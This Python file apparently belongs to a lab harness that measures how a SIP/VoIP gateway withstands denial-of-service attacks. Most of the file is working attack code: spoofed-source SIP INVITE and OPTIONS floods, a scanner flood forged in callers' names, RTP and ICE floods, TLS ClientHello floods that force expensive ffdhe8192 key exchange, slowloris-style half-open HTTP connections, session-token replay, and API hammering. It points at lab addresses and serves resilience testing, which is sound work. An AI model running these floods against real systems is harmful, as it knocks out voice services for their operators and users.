"""The attacks. Each is a function that runs for some seconds on the attacker's host, in a process of its own."""
import http.client
import json
import os
import pathlib
import re
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "gateway"))
from calls import DOMAIN, HTTP, LOAD_CORE, MSISDN, ROOT, SIP  # noqa: E402
from lab import ATTACKER_IP, CALLER_IP, FORGED, SERVER_IP  # noqa: E402

TLS = 15061
DOMAIN_KEY = "XIbenchDomain"
FLOOD = ROOT / "build/release/bin/udp-flood"


class Attack:
    """`row`: what the report says. `run(seconds)` is called on the attacker's host; `prepare(vas)` before it on the
    callers'. `is_udp`: all of it is datagrams, so bytes out for bytes in can be told."""

    def __init__(self, row, run, is_udp=False, is_quick=True, prepare=None):
        self.row, self.run, self.is_udp, self.is_quick, self.prepare = row, run, is_udp, is_quick, prepare


def flood(datagram, rate, seconds, port=SIP, source=None, source_port=5060):
    with tempfile.NamedTemporaryFile() as file:
        file.write(datagram if isinstance(datagram, bytes) else datagram.encode())
        file.flush()
        origin = [] if source is None else [source, str(source_port)]
        subprocess.run(
            ["taskset", "-c", str(LOAD_CORE), FLOOD, SERVER_IP, str(port), str(rate), str(seconds), file.name, *origin],
            check=True,
            stdout=subprocess.DEVNULL,
        )


def small(method, to_tag=";tag=2", more=""):
    """As short as a checked message can be: what is answered is long beside it."""
    return (
        f"{method} sip:a SIP/2.0\r\nv:SIP/2.0/UDP a;rport;branch=z9hG4bK########\r\nf:<sip:a>;tag=1\r\nt:<sip:a>{to_tag}\r\n"
        f"i:########\r\nCSeq:1 {method}\r\nm:<sip:a>\r\n{more}l:0\r\n\r\n"
    )


def in_dialogs_that_are_none(source):
    return lambda seconds: flood(small("INVITE"), 20_000, seconds, source=source)


def strangers_invites(seconds):
    flood(small("INVITE", ""), 20_000, seconds, source=FORGED)


def scanners_in_the_callers_name(seconds):
    flood(small("OPTIONS", "", "User-Agent: friendly-scanner\r\n"), 200, seconds, source=CALLER_IP, source_port=15480)


def large_options(seconds):
    """Well-formed, and long in every part that is taken apart."""
    via = "v:SIP/2.0/UDP a;branch=z9hG4bKx" + ",SIP/2.0/UDP b;branch=z9hG4bKy" * 230 + "\r\n"
    text = small("OPTIONS", "", via * 7)
    flood(text, 200, seconds)


def rtp_everywhere(seconds):
    flood(bytes([0x80, 0]) + b"########" + bytes(162), 30_000, seconds, port="20000-29999", source=ATTACKER_IP)


def checks_at_the_ice_port(port):
    """Binding requests as RFC 8445 has them, of nobody: no leg has that name, or the password is wrong."""
    user = b"aaaaaaaaaaaaaaaa:xxxx"
    body = b"\x00\x06" + len(user).to_bytes(2, "big") + user + bytes(-len(user) % 4) + b"\x00\x08\x00\x14" + bytes(20)
    check = b"\x00\x01" + len(body).to_bytes(2, "big") + b"\x21\x12\xa4\x42" + b"########" + b"abcd" + body
    return lambda seconds: flood(check, 20_000, seconds, port=port(), source=FORGED)


# ---- TLS ----

FFDHE8192, X25519 = 0x0104, 0x001D


def client_hello(group, key):
    """A TLS 1.3 hello that offers one group, and a key of it."""

    def block(data, bytes_of_length):
        return len(data).to_bytes(bytes_of_length, "big") + data

    def extension(number, data):
        return number.to_bytes(2, "big") + block(data, 2)

    name = group.to_bytes(2, "big")
    extensions = (
        extension(0x2B, block(b"\x03\x04", 1))
        + extension(0x0A, block(name, 2))
        + extension(0x0D, block(b"\x04\x03\x08\x04\x04\x01", 2))
        + extension(0x33, block(name + block(key, 2), 2))
    )
    hello = (
        b"\x03\x03"
        + os.urandom(32)
        + block(os.urandom(32), 1)
        + block(b"\x13\x01", 2)
        + block(b"\x00", 1)
        + block(extensions, 2)
    )
    return b"\x16\x03\x01" + block(b"\x01" + block(hello, 3), 2)


def hellos(group, key_bytes, rate):
    def run(seconds):
        hello = client_hello(group, b"\x7f" + os.urandom(key_bytes - 1))
        open_ones, sent, begun = [], 0, time.monotonic()
        while (elapsed := time.monotonic() - begun) < seconds:
            if sent >= elapsed * rate:
                time.sleep(0.002)
                continue
            sent += 1
            each = socket.socket()
            each.setblocking(False)
            each.connect_ex((SERVER_IP, TLS))
            open_ones.append(each)
            for waiting in open_ones[-64:]:
                try:
                    waiting.send(hello)
                except OSError:
                    pass
            if len(open_ones) > 128:
                open_ones.pop(0).close()

    return run


# ---- the API ----


def api_connections(seconds):
    """As many as it gets, each silent behind half a request."""
    held, deadline = [], time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            each = socket.create_connection((SERVER_IP, HTTP), timeout=0.2)
            each.sendall(b"GET /healthz HTTP/1.1\r\nHost: ")
            held.append(each)
        except OSError:
            time.sleep(0.05)
        if len(held) >= 8000:
            time.sleep(0.2)


def ask_over_and_over(path, key, body):
    def run(seconds):
        deadline, connection = time.monotonic() + seconds, None
        while time.monotonic() < deadline:
            try:
                connection = connection or http.client.HTTPConnection(SERVER_IP, HTTP, timeout=2)
                connection.request(
                    "POST" if body else "GET",
                    path,
                    json.dumps(body) if body else None,
                    {"Authorization": f"Bearer {key}", "Content-Type": "application/json"},
                )
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                connection = None

    return run


# ---- one who has a token ----


class TokenHolder:
    """A caller on the attacker's host with a call that is up."""

    def __init__(self):
        self.token = ""

    def prepare(self, vas):
        self.token, self.poisoned, self.ice = vas.tokens(3)

    def invite(self, token, more="", body=None, sock=None):
        ip, port = sock.getsockname()
        body = body or (
            f"v=0\r\no=x 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\nm=audio 6000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
        )
        return (
            f"INVITE sip:999@{SERVER_IP}:{SIP} SIP/2.0\r\nVia: SIP/2.0/UDP {ip}:{port};rport;branch=z9hG4bK########\r\n"
            f"From: <sip:h@{ip}>;tag=h\r\nTo: <sip:999@{SERVER_IP}>\r\nCall-ID: h{token[:8]}########\r\nCSeq: 1 INVITE\r\n"
            f"Contact: <sip:h@{ip}:{port}>\r\nMax-Forwards: 70\r\n"
            f"X-Cloudonix-Session: {token}\r\nX-Cloudonix-Domain: {DOMAIN}\r\n{more}"
            f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n\r\n{body}"
        )

    def repeat_token(self, seconds):
        """One token in new calls again and again: one is taken, the others are refused."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((ATTACKER_IP, 0))
            text = self.invite(self.token, sock=sock)
        flood(text, 2_000, seconds)

    def bytes_that_are_no_text(self, seconds):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((ATTACKER_IP, 0))
            text = self.invite(self.poisoned, sock=sock).encode()
        flood(text.replace(b"Call-ID: h", b"Call-ID: \xff\xfe"), 100, seconds)

    def open_ice_leg(self, vas):
        """A call whose caller's leg is at the port that all ICE legs share; the port, for who attacks it."""
        token = vas.tokens(1)[0]
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((CALLER_IP, 0))
        self.sock.settimeout(5)
        ip = CALLER_IP
        body = (
            f"v=0\r\no=x 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\na=ice-ufrag:abcd\r\na=ice-pwd:abcdefghijklmnopqrstuvwx\r\n"
            f"m=audio 6000 RTP/AVP 0\r\na=rtcp-mux\r\na=rtpmap:0 PCMU/8000\r\na=candidate:1 1 udp 2130706431 {ip} 6000 typ host\r\n"
        )
        text = self.invite(token, body=body, sock=self.sock).replace("########", "00000000")
        self.sock.sendto(text.encode(), (SERVER_IP, SIP))
        while True:
            answer = self.sock.recv(65536).decode()
            if answer.startswith("SIP/2.0 200"):
                self.port = int(re.search(r"m=audio (\d+)", answer)[1])
                return
            assert answer.startswith("SIP/2.0 1"), answer


def all_attacks():
    holder, ice = TokenHolder(), TokenHolder()
    sessions = f"/calls/{DOMAIN}/outgoing/{MSISDN}"
    return [
        Attack("8 TLS hellos/s with ffdhe8192 from one address", hellos(FFDHE8192, 1024, 8)),
        Attack("500 TLS hellos/s from one address", hellos(X25519, 32, 500), is_quick=False),
        Attack(
            "20,000 INVITEs/s with a To tag from one address",
            in_dialogs_that_are_none(ATTACKER_IP),
            is_udp=True,
            is_quick=False,
        ),
        Attack("20,000 INVITEs/s with a To tag from forged addresses", in_dialogs_that_are_none(FORGED), is_udp=True),
        Attack(
            "20,000 INVITEs/s without a token from forged addresses", strangers_invites, is_udp=True, is_quick=False
        ),
        Attack("200 OPTIONS/s of 50 kB from one address", large_options, is_udp=True, is_quick=False),
        Attack("200 scanner's messages/s in the callers' name", scanners_in_the_callers_name, is_udp=True),
        Attack("30,000 RTP packets/s at every media port", rtp_everywhere, is_udp=True, is_quick=False),
        Attack(
            "20,000 ICE checks/s of nobody from forged addresses",
            checks_at_the_ice_port(lambda: ice.port),
            is_udp=True,
            prepare=ice.open_ice_leg,
        ),
        Attack("one token in 2,000 INVITEs/s", holder.repeat_token, is_udp=True, prepare=holder.prepare),
        Attack(
            "one token holder's bytes that are no text",
            holder.bytes_that_are_no_text,
            is_udp=True,
            is_quick=False,
            prepare=holder.prepare,
        ),
        Attack("API connections by one address", api_connections, is_quick=False),
        Attack(
            "wrong API keys by one address",
            ask_over_and_over(sessions, "XIwrong", {"destination": "1"}),
            is_quick=False,
        ),
        Attack(
            "one domain key's sessions, as fast as it can",
            ask_over_and_over(sessions, DOMAIN_KEY, {"destination": "1"}),
        ),
    ]
